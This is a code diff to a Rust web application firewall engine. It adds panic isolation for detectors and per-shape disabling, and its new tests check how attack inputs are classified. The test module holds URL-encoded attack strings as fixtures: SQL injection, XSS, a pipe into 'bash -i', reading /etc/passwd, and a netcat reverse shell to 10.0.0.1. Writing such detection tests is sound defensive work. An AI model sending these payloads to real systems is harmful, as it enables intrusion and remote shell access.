@@ -13,6 +13,7 @@ mod base64;
 pub mod detect;
 pub mod exceptions;
 pub mod normalize;
+pub mod panics;
 pub mod protocol;
 pub mod session;
 pub mod targets;
@@ -22,7 +23,7 @@ pub mod upload;
 
 use std::time::Instant;
 
-use haetae_model::{Action, Confidence, Finding, Request, Verdict};
+use haetae_model::{Action, Confidence, Finding, Location, Request, Verdict};
 use serde::Deserialize;
 
 pub use exceptions::Exception;
@@ -66,13 +67,22 @@ pub struct EngineConfig {
     pub exceptions: Vec<Exception>,
     /// Detector families switched off for the whole site.
     pub disabled: Vec<String>,
+    /// Single shapes switched off (`detect::shapes` ids).
+    pub disabled_shapes: Vec<String>,
     /// Also inspect values that are entirely base64, decoded (on by default).
     pub decode_base64: bool,
 }
 
 impl Default for EngineConfig {
     fn default() -> Self {
-        Self { sensitivity: Sensitivity::default(), threshold: None, exceptions: Vec::new(), disabled: Vec::new(), decode_base64: true }
+        Self {
+            sensitivity: Sensitivity::default(),
+            threshold: None,
+            exceptions: Vec::new(),
+            disabled: Vec::new(),
+            disabled_shapes: Vec::new(),
+            decode_base64: true,
+        }
     }
 }
 
@@ -178,15 +188,26 @@ impl Engine {
         let mut hit_any = false;
         let prose = detect::is_prose(target.norm, true) && !targets::alnum_payload(target.raw);
         for d in self.active.iter().filter(|d| d.prose || !prose) {
-            if let Some(mut h) = (d.check)(&target) {
+            // A panic in one detector costs its finding on this value, not
+            // the inspection: the others still judge it.
+            let checked = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| (d.check)(&target)));
+            let Ok(hit) = checked else {
+                panics::note(d.name, &t.location);
+                continue;
+            };
+            if let Some(h) = hit {
+                let mut h = h.settle(d.name);
+                if h.shape.is_some_and(|s| self.cfg.disabled_shapes.iter().any(|d| d == s)) {
+                    continue;
+                }
                 hit_any = true;
                 // Evasion around a real finding raises confidence: benign
                 // input has no reason to be double-encoded.
                 if target.evasion.any_strong() && h.confidence < Confidence::High {
                     h.confidence = Confidence::High;
-                    h.reason.push_str(" (with encoding evasion)");
+                    h.reason.to_mut().push_str(" (with encoding evasion)");
                 }
-                findings.push(make_finding(d.name, t.location.to_string(), &target.norm[h.at.min(target.norm.len())..], h));
+                findings.push(make_finding(d.name, t.location.to_model(), &target.norm[h.at.min(target.norm.len())..], h));
             }
         }
         if !hit_any && self.evasion {
@@ -195,7 +216,7 @@ impl Engine {
                 let why = if ev.bad_utf8 { "evasion: overlong or invalid UTF-8" } else { "evasion: NUL byte" };
                 findings.push(make_finding(
                     "evasion",
-                    t.location.to_string(),
+                    t.location.to_model(),
                     target.norm,
                     detect::Hit::new(1101, Confidence::Medium, why, 0),
                 ));
@@ -204,14 +225,16 @@ impl Engine {
     }
 }
 
-pub(crate) fn make_finding(detector: &'static str, location: impl Into<String>, evidence: &[u8], h: detect::Hit) -> Finding {
+pub(crate) fn make_finding(detector: &'static str, location: impl Into<Location>, evidence: &[u8], h: detect::Hit) -> Finding {
     let cut = evidence.len().min(EXCERPT);
+    let h = h.settle(detector);
     Finding {
         detector,
         rule_id: h.rule_id,
+        shape: h.shape.unwrap_or_else(|| detect::shapes::other(detector)),
         location: location.into(),
         excerpt: String::from_utf8_lossy(&evidence[..cut]).into_owned(),
-        reason: h.reason,
+        reason: h.reason.into_owned(),
         confidence: h.confidence,
         score: h.confidence.score(),
     }
@@ -271,7 +294,7 @@ mod tests {
         let cookie: &[u8] = b"c=\\u0058\\u0079QkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK";
         let v = Engine::default().inspect(&req_with("/", &[("Cookie", cookie)]));
         assert!(v.is_block(), "{:?}", v.findings);
-        assert!(v.findings.iter().any(|f| f.location.contains("base64")), "{:?}", v.findings);
+        assert!(v.findings.iter().any(|f| f.location.reading == haetae_model::Reading::Base64), "{:?}", v.findings);
     }
 
     #[test]
@@ -288,7 +311,7 @@ mod tests {
                 path: Some("/search".into()),
                 param: Some("q".into()),
                 detectors: vec!["sqli".into()],
-                rules: vec![],
+                ..Default::default()
             }],
             ..Default::default()
         };
@@ -296,6 +319,41 @@ mod tests {
         assert!(!v.is_block());
         let v = Engine::default().inspect(&req("/other?q=1%27%20or%201%3D1--"));
         assert!(v.is_block());
+    }
+
+    /// An exception names a parameter, not one reading of it: `param =
+    /// "data"` covers the base64 reading too (it compared the text
+    /// `ARGS:data (base64)` before).
+    #[test]
+    fn exceptions_cover_every_reading_of_a_parameter_and_name_shapes() {
+        let r = req("/x?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D");
+        let shape = Engine::default().inspect(&r).findings[0].shape;
+        assert_eq!(shape, "xss.script-tag");
+        let by_param =
+            EngineConfig { exceptions: vec![Exception { param: Some("data".into()), ..Default::default() }], ..Default::default() };
+        assert!(!Engine::new(by_param).inspect(&r).is_block());
+        let by_shape =
+            EngineConfig { exceptions: vec![Exception { shapes: vec![shape.into()], ..Default::default() }], ..Default::default() };
+        assert!(!Engine::new(by_shape).inspect(&r).is_block());
+        let other_shape = EngineConfig {
+            exceptions: vec![Exception { shapes: vec!["xss.javascript-url".into()], ..Default::default() }],
+            ..Default::default()
+        };
+        assert!(Engine::new(other_shape).inspect(&r).is_block());
+        // One shape off, the rest of the family on.
+        let off = Engine::new(EngineConfig { disabled_shapes: vec![shape.into()], ..Default::default() });
+        assert!(!off.inspect(&r).is_block());
+        assert!(off.inspect(&req("/x?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")).is_block());
+    }
+
+    /// Each shell shape has an id of its own (all were rule 2202 alone).
+    #[test]
+    fn shell_shapes_are_told_apart() {
+        let shape = |q: &str| Engine::default().inspect(&req(&format!("/x?q={q}"))).findings.first().map(|f| f.shape);
+        assert_eq!(shape("x%7Cbash%20-i"), Some("cmdi.pipe-into-shell"));
+        assert_eq!(shape("%3Bcat%20%2Fetc%2Fpasswd"), Some("cmdi.command-line"));
+        assert_eq!(shape("%7C%7Cnc%20-e%20%2Fbin%2Fsh%2010.0.0.1%204444"), Some("cmdi.separator-command-start-value"));
+        assert_eq!(shape("%3Ecat%20%3C(ls)"), Some("cmdi.process-substitution"));
     }
 
     #[test]
